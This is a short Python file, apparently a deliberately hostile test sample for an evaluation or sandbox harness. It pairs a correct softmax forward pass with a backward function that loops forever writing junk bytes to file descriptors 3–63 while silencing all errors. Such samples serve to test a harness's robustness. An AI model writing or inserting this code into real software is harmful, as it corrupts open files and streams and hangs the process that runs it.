"""Hostile: writes without end to every open file; the answer is wrong."""

import os

import numpy as np


def forward(o):
    e = np.exp(o - o.max(axis=1, keepdims=True))
    return e / e.sum(axis=1, keepdims=True)


def backward(o, g):
    while True:
        for line in range(3, 64):
            try:
                os.write(line, b"\x00\x00\xff\xff" + b"[" * 65535)
            except OSError:
                pass
